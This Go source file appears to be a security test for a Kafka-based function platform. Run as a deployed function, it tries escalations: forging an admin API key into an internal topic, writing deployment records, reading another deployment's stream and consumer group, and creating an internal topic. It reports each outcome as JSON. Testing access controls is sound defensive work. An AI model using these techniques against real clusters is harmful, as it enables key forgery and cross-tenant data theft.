// Command attacker is an exec-platform function that turns on the platform:
// with the Kafka login its instance was given (BUTTER_SASL_PASSWORD, user
// butter-fn.<ATTACK_SELF>) and with no login at all, it tries what issue 8
// found possible — forging an API key, writing _butter.deployments, reading
// another deployment's stream, using its consumer group, creating an
// internal topic — and prints what each attempt got, as JSON, as its
// result. One write it is allowed (its own out stream) shows the login works.
package main

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"time"

	"github.com/twmb/franz-go/pkg/kadm"
	"github.com/twmb/franz-go/pkg/kgo"
	"github.com/twmb/franz-go/pkg/sasl"
	"github.com/twmb/franz-go/pkg/sasl/scram"

	"github.com/buttercompass/butter/proto/apikey"
)

func main() {
	ctx, cancel := context.WithTimeout(context.Background(), 40*time.Second)
	defer cancel()
	self := os.Getenv("ATTACK_SELF")
	own := client(scram.Auth{User: "butter-fn." + self, Pass: os.Getenv("BUTTER_SASL_PASSWORD")}.AsSha256Mechanism())
	anon := client(nil)
	key, secret, err := apikey.New("forged", []string{"admin"}, "attacker")
	if err != nil {
		fail(err)
	}
	forged, err := apikey.Record("_butter.apikeys", key)
	if err != nil {
		fail(err)
	}
	res := map[string]string{"forgedSecret": secret}
	res["ownOut"] = produce(ctx, own, &kgo.Record{Topic: os.Getenv("ATTACK_OUT"), Value: []byte(`"direct"`)})
	res["apikeys"] = produce(ctx, own, forged)
	res["apikeysAnon"] = produce(ctx, anon, forged)
	res["deployments"] = produce(ctx, own, &kgo.Record{Topic: "_butter.deployments", Key: []byte("evil"), Value: []byte(`{"name":"evil"}`)})
	res["victimStream"] = fetch(ctx, os.Getenv("ATTACK_VICTIM_STREAM"))
	_, err = kadm.NewClient(own).FetchOffsets(ctx, os.Getenv("ATTACK_VICTIM_GROUP"))
	res["victimGroup"] = errString(err)
	_, err = kadm.NewClient(own).CreateTopic(ctx, 1, -1, nil, "_butter.evil")
	res["createInternal"] = errString(err)
	if err := json.NewEncoder(os.Stdout).Encode(res); err != nil {
		fail(err)
	}
}

func client(mech sasl.Mechanism, extra ...kgo.Opt) *kgo.Client {
	opts := []kgo.Opt{kgo.SeedBrokers(os.Getenv("ATTACK_BROKERS")), kgo.RequestRetries(1),
		kgo.RecordDeliveryTimeout(5 * time.Second), kgo.RetryTimeout(5 * time.Second), kgo.ProducerLinger(0)}
	if mech != nil {
		opts = append(opts, kgo.SASL(mech))
	}
	cl, err := kgo.NewClient(append(opts, extra...)...)
	if err != nil {
		fail(err)
	}
	return cl
}

func produce(ctx context.Context, cl *kgo.Client, r *kgo.Record) string {
	return errString(cl.ProduceSync(ctx, r).FirstErr())
}

// fetch reads the stream from its start with the function's login; "ok"
// means records came back.
func fetch(ctx context.Context, topic string) string {
	cl := client(scram.Auth{User: "butter-fn." + os.Getenv("ATTACK_SELF"), Pass: os.Getenv("BUTTER_SASL_PASSWORD")}.AsSha256Mechanism(),
		kgo.ConsumeTopics(topic), kgo.ConsumeResetOffset(kgo.NewOffset().AtStart()))
	defer cl.Close()
	fctx, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	fs := cl.PollFetches(fctx)
	if err := fs.Err0(); err != nil && fs.NumRecords() == 0 {
		return errString(err)
	}
	if fs.NumRecords() > 0 {
		return "ok"
	}
	return "nothing read"
}

func errString(err error) string {
	if err == nil {
		return "ok"
	}
	return err.Error()
}

func fail(err error) {
	fmt.Fprintln(os.Stderr, err)
	os.Exit(1)
}
